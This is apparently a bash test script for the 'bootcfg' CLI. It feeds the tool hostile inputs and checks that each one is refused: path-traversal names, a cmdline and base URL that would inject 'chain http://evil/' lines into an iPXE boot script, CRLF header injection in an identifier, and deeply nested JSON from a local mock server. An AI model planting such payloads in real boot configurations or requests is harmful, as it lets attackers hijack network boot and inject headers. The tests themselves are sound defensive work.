#!/usr/bin/env bash
# The bootcfg CLI against hostile arguments and servers (#26, first part): empty paths are usage
# errors (never the file-system root), invalid push NAMEs and URLs are usage errors, a cmdline
# with a line break never reaches an iPXE script, identifiers from a server are percent-encoded
# in the next request line, and JSON nested 100,000 deep from a server is one error line.
BOOTCFGD=$1
BOOTCFG=$(realpath "${2:?path to bootcfg}")
source "$(dirname "$0")/lib.sh"

cli() {
    rc=0
    out=$("$BOOTCFG" "$@" 2>"$WORK/cli.err") || rc=$?
    err=$(cat "$WORK/cli.err")
}
lk="$WORK/lk"
mkdir -p "$lk" "$WORK/assets" "$WORK/data"
printf 'kernel' >"$lk/img-kernel"
printf 'initrd' >"$lk/img-initrd.img"
printf 'console=ttyS0\n' >"$lk/img-cmdline"
cd "$WORK"

# --- empty paths: usage (2), nothing written anywhere
for args in "image archive $lk/img-kernel ''" "image archive '' out" "image compare '' x" \
    "image save2image -o '' x" "image save2image ''" \
    "push img --dir $lk --assets-path '' --data-path $WORK/data" \
    "push img --dir $lk --assets-path $WORK/assets --data-path ''" \
    "push img --dir '' --assets-path $WORK/assets --data-path $WORK/data" \
    "push img --dir $lk --ucode '' --assets-path $WORK/assets --data-path $WORK/data" \
    "push equinixmetal img --dir $lk --base-url http://x/ --destination ''"; do
    eval "cli $args"
    expect_eq "bootcfg $args: usage error ($err)" 2 "$rc"
    expect_contains "bootcfg $args: names the empty path" "is empty: give a path" "$err"
done
for f in /img-kernel /img-initrd.img /img-cmdline /img-equinixmetal.ipxe /kernel.tar.gz /img; do
    [[ -e $f ]] && fail "$f written at the file-system root"
done
pass

# --- invalid NAME and URL: usage
for name in '../img' 'a/b' '' '.hidden' 'x y'; do
    cli push "$name" --dir "$lk" --assets-path "$WORK/assets" --data-path "$WORK/data"
    expect_eq "push NAME '$name': usage" 2 "$rc"
done
cli push equinixmetal img --dir "$lk" --base-url $'http://x/\nchain http://evil/' --destination "$WORK/out"
expect_eq "base URL with a line break: usage" 2 "$rc"

# --- a cmdline with a line break: refused, no script
printf 'console=ttyS0\nchain http://evil/x\nboot\n' >"$lk/img-cmdline"
cli push equinixmetal img --dir "$lk" --base-url http://x/ --destination "$WORK/out"
expect_eq "cmdline with a line break: refused" 1 "$rc"
expect_contains "cmdline refusal names the file" "img-cmdline: holds a control character" "$err"
[[ -e "$WORK/out/img-equinixmetal.ipxe" ]] && fail "script written with an injected line" || pass
printf 'console=ttyS0\n' >"$lk/img-cmdline"

# --- a server's answers: identifiers encoded, deep JSON refused
cat >"$WORK/server.py" <<'PY'
import socket, sys
mode = sys.argv[1]
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 0))
srv.listen(8)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
data = b""
while b"\r\n\r\n" not in data:
    chunk = conn.recv(65536)
    if not chunk:
        break
    data += chunk
with open(sys.argv[2], "wb") as f:
    f.write(data)
body = b"[" * 100000 + b"]" * 100000 if mode == "deep" else b"{}"
conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
             b"Connection: close\r\n\r\n" % len(body) + body)
conn.close()
PY
# serve MODE: a one-request server in the background; sets sport and spid.
serve() {
    rm -f "$WORK/port"
    python3 "$WORK/server.py" "$1" "$WORK/request.txt" >"$WORK/port" &
    spid=$!
    PIDS+=("$spid")
    for _ in $(seq 100); do [[ -s "$WORK/port" ]] && break; sleep 0.05; done
    sport=$(cat "$WORK/port")
}
serve echo
cli devices delete $'node\r\nX-Injected: 1' --provider bootcfg --endpoint "http://127.0.0.1:$sport"
wait "$spid" 2>/dev/null || true
head -1 "$WORK/request.txt" >"$WORK/line.txt"
expect_contains "identifier percent-encoded in the request line" "/api/v1/groups/node%0D%0AX-Injected:%201 " "$(cat "$WORK/line.txt")"
grep -q '^X-Injected' "$WORK/request.txt" && fail "header injected through an identifier" || pass

serve deep
cli group list --endpoint "http://127.0.0.1:$sport"
wait "$spid" 2>/dev/null || true
expect_eq "deep JSON from the server: exit 1, not a crash ($err)" 1 "$rc"
expect_contains "deep JSON: says so" "nested deeper than 64" "$err"

finish
